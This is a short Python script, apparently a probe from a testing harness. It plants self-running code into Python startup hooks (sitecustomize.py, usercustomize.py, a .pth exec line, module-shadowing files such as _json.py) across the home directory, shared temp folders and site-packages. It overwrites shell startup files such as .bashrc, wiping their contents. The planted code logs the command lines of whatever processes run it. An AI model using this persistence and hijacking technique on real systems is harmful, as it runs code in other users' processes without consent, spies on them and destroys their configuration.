"""Leaves code wherever a Python or a shell that looks into this home, or into folders that all share, would run it.

ARGS: mark (name of the file that tells, in the workspace of whoever ran it, who that was)
"""

HOME = os.path.expanduser("~")
VERSION = "python%d.%d" % sys.version_info[:2]
CODE = """import os
for home in {%r, os.path.expanduser("~")}:
    try: open(home + "/workspace/" + %r, "a").write(open("/proc/self/cmdline").read().replace(chr(0), " ")[:300] + chr(10))
    except OSError: pass
"""
PACKAGES = [HOME + "/.local/lib/%s/site-packages" % VERSION, HOME + "/.venv/lib/%s/site-packages" % VERSION]
NAMES = ["sitecustomize.py", "usercustomize.py", "shipyard_runner.py", "shipyard_files.py", "_json.py"]


def main():
    for folder in [HOME, HOME + "/workspace", "/tmp", "/var/tmp", "/dev/shm", *PACKAGES]:
        attempt("plant in %s" % folder, plant, folder)
    for name in [".bashrc", ".bash_profile", ".profile", ".bash_logout"]:
        attempt("plant %s" % name, write, os.path.join(HOME, name), "echo $0 $PPID >> ~/workspace/%s\n" % ARGS["mark"])


def plant(folder):
    os.makedirs(folder, exist_ok=True)
    for name in NAMES:
        write(os.path.join(folder, name), CODE % (HOME, ARGS["mark"]))
    # One line, as .pth files have it.
    return write(os.path.join(folder, "probe.pth"), "import os; exec(%r)\n" % (CODE % (HOME, ARGS["mark"])))


def write(path, text):
    with open(path, "w") as file:
        file.write(text)
    return "written"


main()
